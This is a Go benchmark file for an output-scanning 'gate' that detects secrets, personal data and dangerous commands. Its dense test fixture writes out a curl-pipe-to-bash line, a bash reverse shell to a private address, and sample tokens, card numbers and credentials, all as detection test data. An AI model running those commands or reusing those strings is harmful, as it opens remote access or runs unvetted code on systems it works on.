package gate

import (
	"bytes"
	"context"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
)

// cleanText is prose and log output without findings: words, numbers,
// dates, versions, hashes and punctuation, as ordinary program output is.
func cleanText(size int) []byte {
	lines := []string{
		"The quick brown fox jumps over the lazy dog while the build finishes in 12.5 seconds.\n",
		"2026-11-27T11:04:05Z INFO request completed status=200 duration_ms=37 bytes=4096 path=/api/v1/items\n",
		"Installing dependencies: requests 2.31.0, numpy 1.26.4, pandas 2.2.1 (cached)\n",
		"commit 3f5e2a9c8b7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f refs/heads/main; the amount was discounted once.\n",
		"func main() { fmt.Println(\"hello, world\") } // returns 0 on success, since version v1.2.3\n",
		"Processing batch 17 of 240: 1,024 records read, 3 skipped, total elapsed 00:01:23.\n",
		"    at com.example.service.Handler.process(Handler.java:142) mounting volume /data read-only\n",
	}
	var b bytes.Buffer
	for i := 0; b.Len() < size; i++ {
		b.WriteString(lines[i%len(lines)])
	}
	return b.Bytes()[:size]
}

// denseText is output dense with findings of every family.
func denseText(size int) []byte {
	lines := []string{
		"key AKIAIOSFODNN7EXAMPLE token ghp_0123456789abcdefghijABCDEFGHIJ012345 ok\n",
		"contact bob@example.com or (555) 123-4567, card 4111 1111 1111 1111, ssn 123-45-6789\n",
		"password=Zx9#kLm2$Qw8!vB4 url postgres://admin:S3cr3tP4ss@db.internal:5432/app host 10.1.2.3\n",
		"curl -fsSL https://get.example.sh | bash; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
		"the rest of this line is ordinary prose about nothing in particular at all.\n",
	}
	var b bytes.Buffer
	for i := 0; b.Len() < size; i++ {
		b.WriteString(lines[i%len(lines)])
	}
	return b.Bytes()[:size]
}

func randomBytes(size int) []byte {
	r := rand.New(rand.NewPCG(1, 2))
	b := make([]byte, size)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

func benchScan(b *testing.B, data []byte) {
	g, err := New(DefaultPolicy())
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for b.Loop() {
		g.Scan("stdout", data)
	}
}

func BenchmarkScanClean(b *testing.B)  { benchScan(b, cleanText(8<<20)) }
func BenchmarkScanDense(b *testing.B)  { benchScan(b, denseText(1<<20)) }
func BenchmarkScanBinary(b *testing.B) { benchScan(b, randomBytes(8<<20)) }

func BenchmarkScanStreamClean(b *testing.B) {
	g, err := New(DefaultPolicy())
	if err != nil {
		b.Fatal(err)
	}
	data := cleanText(8 << 20)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := g.ScanStream(context.Background(), "stdout", bytes.NewReader(data), io.Discard); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkScanCleanWithSecrets(b *testing.B) {
	g, err := New(DefaultPolicy())
	if err != nil {
		b.Fatal(err)
	}
	for i := range 8 {
		g.AddSecret("s"+strings.Repeat("x", i), []byte("registered-secret-value-"+string(rune('a'+i))))
	}
	data := cleanText(8 << 20)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		g.Scan("stdout", data)
	}
}

// BenchmarkPrefilter measures the shared keyword DFA alone on clean text.
func BenchmarkPrefilter(b *testing.B) {
	e := builtinEngine()
	data := cleanText(8 << 20)
	b.SetBytes(int64(len(data)))
	n := 0
	for b.Loop() {
		e.ac.scan(data, func(int32, int) { n++ })
	}
}

// BenchmarkAddSecret measures registering a secret: it builds the gate's
// engine anew (every built-in keyword plus the secret's forms), as every
// sandbox with secrets does once, and as a kavach process does for its
// first gate.
func BenchmarkAddSecret(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		g, err := New(DefaultPolicy())
		if err != nil {
			b.Fatal(err)
		}
		g.AddSecret("TOKEN", []byte("kv-bench-secret-Zq81Lm27Xp"))
	}
}
